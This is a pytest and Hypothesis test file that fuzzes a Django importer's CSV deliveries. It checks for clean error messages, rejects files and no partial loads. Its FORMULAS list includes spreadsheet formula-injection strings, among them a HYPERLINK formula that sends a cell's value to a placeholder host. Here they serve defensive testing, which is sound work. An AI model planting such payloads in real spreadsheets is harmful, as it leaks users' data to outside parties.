"""The importer under fuzzed deliveries (issue #18): broken encodings, wrong types,
duplicate and dangling keys, bad dates, oversized values, control characters and
formula-like strings. Whatever arrives, `rmperf import` ends with a clear message and an
exit status (never a traceback), keeps every rejected row in `_rejects/`, and changes
nothing in the database when it refuses the delivery.

Bounded: two generated deliveries per kind of damage (sixteen imports of a small lake).
"""

from __future__ import annotations

import copy
import csv
import logging
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rmperf.cli import main
from rmperf.customers.models import Assignment, Customer, Product
from rmperf.engine import contract
from rmperf.engine.acceptance import AcceptancePolicy
from rmperf.lakes.models import ImportStatus, LakeImport, RegisteredTable
from rmperf.lakes.selectors import lake_import_summary
from rmperf.lakes.services import lake_import
from rmperf.org.models import OrgUnit, Staff

from .conftest import BASE, TODAY, write_lake

pytestmark = pytest.mark.django_db

MODELS = (OrgUnit, Staff, Customer, Product, Assignment, RegisteredTable)
#: Tables whose cells are fuzzed: every dimension table and two fact tables.
TABLES = ("org_units", "staff", "customers", "products", "assignments", "transactions", "loans")

FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1/0")
BAD_DATES = ("2026-02-30", "2026-13-01", "20260101", "9999-99-99", "1899-12-31", "2999-01-01")
WRONG_TYPES = ("abc", "1.5e3", "NaN", "12,50", "0x1F", "true", "-", "１２３")


#: What each delivery breaks; every kind is tried on every run.
KINDS = (
    "encoding",
    "wrong_type",
    "duplicate_key",
    "dangling_key",
    "bad_date",
    "oversized",
    "control_character",
    "formula",
)
#: Columns by what a wrong value there tests.
TYPED = {
    "staff": ("hired_on",),
    "customers": ("birth_date", "opened_on", "marketing_opt_out"),
    "products": ("term_days", "revenue_rate"),
    "assignments": ("valid_from", "valid_to"),
    "transactions": ("ts", "amount"),
    "loans": ("amount", "disbursed_on", "green"),
}
DATES = {
    "staff": ("hired_on",),
    "customers": ("birth_date", "opened_on", "risk_assessed_on"),
    "assignments": ("valid_from",),
    "loans": ("disbursed_on",),
}
TEXTS = {t: ("name",) for t in ("org_units", "staff", "customers", "products")} | {
    "customers": ("name", "phone", "id_number"),
    "transactions": ("channel", "txn_id"),
}


@st.composite
def deliveries(draw: Any, kind: str) -> tuple[dict[str, list[dict[str, str]]], str, str]:
    """The small lake with one or two changes of `kind`: (rows, what changed, encoding)."""
    rows = copy.deepcopy(BASE)
    changes: list[str] = []
    encoding = "utf-8"
    for _ in range(draw(st.integers(1, 2))):
        table = draw(st.sampled_from(TABLES))
        i = draw(st.integers(0, len(rows[table]) - 1))
        row = rows[table][i]
        match kind:
            case "encoding":
                encoding = draw(st.sampled_from(("gbk", "garbage")))
                changes.append(f"{encoding} bytes")
                break
            case "duplicate_key":
                rows[table].append(dict(row))
                changes.append(f"{table}[{i}] twice")
                continue
            case "dangling_key":
                refs = [c.name for c in contract.table(table).columns if c.references]
                if not refs:
                    continue
                col = draw(st.sampled_from(refs))
                value = "NOPE-" + draw(st.text("ABC123", min_size=1, max_size=5))
            case "wrong_type":
                table = draw(st.sampled_from(sorted(TYPED)))
                i = draw(st.integers(0, len(rows[table]) - 1))
                col = draw(st.sampled_from(TYPED[table]))
                value = draw(st.sampled_from(WRONG_TYPES) | st.text(max_size=12))
            case "bad_date":
                table = draw(st.sampled_from(sorted(DATES)))
                i = draw(st.integers(0, len(rows[table]) - 1))
                col = draw(st.sampled_from(DATES[table]))
                value = draw(st.sampled_from(BAD_DATES))
            case "oversized" | "control_character" | "formula":
                table = draw(st.sampled_from(sorted(TEXTS)))
                i = draw(st.integers(0, len(rows[table]) - 1))
                col = draw(st.sampled_from(TEXTS[table]))
                if kind == "oversized":
                    value = "长" * draw(st.sampled_from((65, 201, 5_000, 100_000)))
                elif kind == "formula":
                    value = draw(st.sampled_from(FORMULAS))
                else:
                    ch = chr(draw(st.sampled_from((0, 1, 7, 9, 10, 13, 27, 127, 133))))
                    value = f"名{ch}字"
        rows[table][i][col] = value
        changes.append(f"{table}[{i}].{col}")
    return rows, " ".join(changes), encoding


def dump() -> dict[str, list[dict[str, Any]]]:
    return {m.__name__: list(m._default_manager.order_by("pk").values()) for m in MODELS}


def rejects_rows(lake: Path, table: str) -> int:
    path = lake / "_rejects" / f"{table}.csv"
    if not path.exists():
        return 0
    csv.field_size_limit(1_000_000)
    with path.open(encoding="utf-8", newline="") as fh:
        return sum(1 for _ in csv.DictReader(fh))


@settings(
    # Two deliveries per kind: Hypothesis tries the simplest first, then a random one,
    # different on each run (a failure prints the blob that reproduces it).
    max_examples=2,
    deadline=None,
    print_blob=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@pytest.mark.parametrize("kind", KINDS)
@given(data=st.data(), loose=st.booleans())
def test_any_delivery_ends_with_a_message_and_never_half_loaded(
    kind: str,
    data: st.DataObject,
    loose: bool,
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    rows, changes, encoding = data.draw(deliveries(kind), label="delivery")
    lake = write_lake(tmp_path_factory.mktemp("fuzz") / "lake", rows)
    if encoding == "gbk":  # a delivery saved in the legacy Chinese code page
        path = lake / "customers.csv"
        path.write_bytes(path.read_text(encoding="utf-8").encode("gbk", errors="replace"))
    elif encoding == "garbage":
        path = lake / "staff.csv"
        path.write_bytes(path.read_bytes()[:40] + b"\xff\xfe\x00\x81" + path.read_bytes()[40:])
    before = dump()
    runs = LakeImport.objects.count()
    caplog.clear()
    capsys.readouterr()

    with caplog.at_level(logging.WARNING):
        status, out = _import(lake, loose=loose, capsys=capsys)

    run = LakeImport.objects.order_by("-pk").first()
    assert run is not None and LakeImport.objects.count() == runs + 1, changes
    # A clear ending: a known status, its exit code, a summary, no traceback anywhere.
    assert run.status != ImportStatus.FAILED, (changes, run.problems)
    assert status == run.exit_status
    assert out.startswith(f"import #{run.pk} of ")
    for text in (out, caplog.text, *run.problems):
        assert "Traceback" not in text, changes
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR], changes
    # Every rejected row is kept, with its reason, in the table's rejects file.
    for name, entry in run.tables.items():
        assert rejects_rows(lake, name) == entry["rejected"], (name, changes)
    if run.status == ImportStatus.REFUSED:
        assert status == 2
        assert run.problems[0].startswith("the delivery was refused")
        assert dump() == before, changes
    else:
        assert Customer.objects.count() >= 1


def _import(lake: Path, *, loose: bool, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """`rmperf import` (default lake policy), or the same service with a policy that
    accepts any share of rejects; the exit status and what the terminal showed."""
    if not loose:
        status = main(["import", str(lake), "--today", TODAY.isoformat()])
        out, err = capsys.readouterr()
        return status, out + err
    run = lake_import(
        actor=None,
        lake_dir=lake,
        today=TODAY,
        acceptance=AcceptancePolicy(max_reject_share=Decimal(1)),
    )
    return run.exit_status, lake_import_summary(lake_import=run)
